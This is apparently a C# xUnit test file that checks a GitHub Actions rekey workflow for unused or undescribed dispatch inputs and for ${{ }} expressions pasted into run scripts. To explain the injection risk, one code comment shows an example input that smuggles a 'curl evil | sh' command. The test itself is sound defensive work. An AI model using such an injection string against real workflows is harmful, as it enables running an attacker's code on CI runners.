using System.Text.RegularExpressions;

namespace Rekey.Workflows.Tests;

/// <summary>The dispatch inputs: described, used, and never pasted into a script.</summary>
public sealed partial class InputTests
{
    public static TheoryData<string> Workflows => new(Workflow.FileNames);

    [Theory]
    [MemberData(nameof(Workflows))]
    public void Every_input_is_used(string fileName)
    {
        var workflow = Workflow.Load(fileName);
        var text = string.Join("\n", workflow.ScalarsOutsideTriggers());

        var unused = workflow.DispatchInputs.Keys.Where(name => !text.Contains($"inputs.{name}", StringComparison.Ordinal)).ToList();

        Assert.True(unused.Count == 0, $"{fileName}: inputs never used: {string.Join(", ", unused)}");
    }

    [Theory]
    [MemberData(nameof(Workflows))]
    public void Every_input_has_a_description(string fileName)
    {
        var undescribed = Workflow.Load(fileName).DispatchInputs
            .Where(i => string.IsNullOrWhiteSpace(Workflow.Text(i.Value, "description")))
            .Select(i => i.Key)
            .ToList();

        Assert.Empty(undescribed);
    }

    [Theory]
    [MemberData(nameof(Workflows))]
    public void No_run_script_expands_an_expression(string fileName)
    {
        // ${{ }} in run: is pasted into the script's text before bash reads it, so an input such as
        // `x"; curl evil | sh; "` would run. Values reach scripts through env: instead.
        var offending = Workflow.Load(fileName).Jobs
            .SelectMany(j => j.Steps)
            .SelectMany(s => new[] { s.Run, s.Script }.Where(text => text is not null && ExpressionPattern().IsMatch(text)).Select(text => $"{s}: {ExpressionPattern().Match(text!).Value}"))
            .Distinct()
            .ToList();

        Assert.True(offending.Count == 0, $"Expressions inside run: scripts:\n{string.Join("\n", offending)}");
    }

    [Theory]
    [MemberData(nameof(Actions))]
    public void No_run_step_of_a_composite_action_expands_an_expression_and_each_runs_in_bash(string uses)
    {
        var action = CompositeAction.Load(uses);

        Assert.Equal("composite", Workflow.Text(action.Runs, "using"));
        Assert.NotEmpty(action.StepNodes);
        foreach (var step in action.StepNodes.Where(s => Workflow.Text(s, "run") is not null))
        {
            var run = Workflow.Text(step, "run")!;
            Assert.False(ExpressionPattern().IsMatch(run), $"{uses}: an expression inside run: {ExpressionPattern().Match(run).Value}");
            Assert.Equal("bash", Workflow.Text(step, "shell"));
        }

        // Every input is declared with a description, and every input the steps name is declared.
        Assert.All(action.Inputs, i => Assert.False(string.IsNullOrWhiteSpace(Workflow.Text(i.Value, "description")), $"{uses}: input {i.Key} has no description."));
        var named = action.StepNodes.SelectMany(Workflow.AllScalars).SelectMany(v => InputReference().Matches(v).Select(m => m.Groups["name"].Value)).ToHashSet(StringComparer.Ordinal);
        Assert.Empty(named.Except(action.Inputs.Keys));
        Assert.Empty(action.Inputs.Keys.Except(named));
    }

    public static TheoryData<string> Actions => new(CompositeAction.All);

    [GeneratedRegex(@"inputs\.(?<name>[A-Za-z0-9_-]+)")]
    private static partial Regex InputReference();

    [Fact]
    public void The_dispatch_form_asks_for_environment_cluster_region_phase_strategy_key_dry_run_and_the_run_to_resume()
    {
        var inputs = Workflow.Load("rekey.yml").DispatchInputs;

        Assert.Equal(["cluster", "dry-run", "environment", "kms-key", "phase", "region", "run-id", "sequences-advanced", "strategy"], inputs.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("true", Workflow.Text(inputs["region"], "required"));
        Assert.Equal("boolean", Workflow.Text(inputs["sequences-advanced"], "type"));
        Assert.Equal("string", Workflow.Text(inputs["run-id"], "type"));
        Assert.Equal("environment", Workflow.Text(inputs["environment"], "type"));
        Assert.Equal("boolean", Workflow.Text(inputs["dry-run"], "type"));
        Assert.Equal("choice", Workflow.Text(inputs["phase"], "type"));
        Assert.Equal(
            ["plan", "dress-rehearsal", "cutover", "backup", "rollback", "cleanup"],
            Workflow.AllScalars(Workflow.Child(inputs["phase"], "options")!));
        Assert.Equal("choice", Workflow.Text(inputs["strategy"], "type"));
        Assert.Equal("auto", Workflow.Text(inputs["strategy"], "default"));
        Assert.Equal(["auto", "blue-green", "restore-swap"], Workflow.AllScalars(Workflow.Child(inputs["strategy"], "options")!));
    }

    [GeneratedRegex(@"\$\{\{[^}]*\}\}")]
    private static partial Regex ExpressionPattern();
}
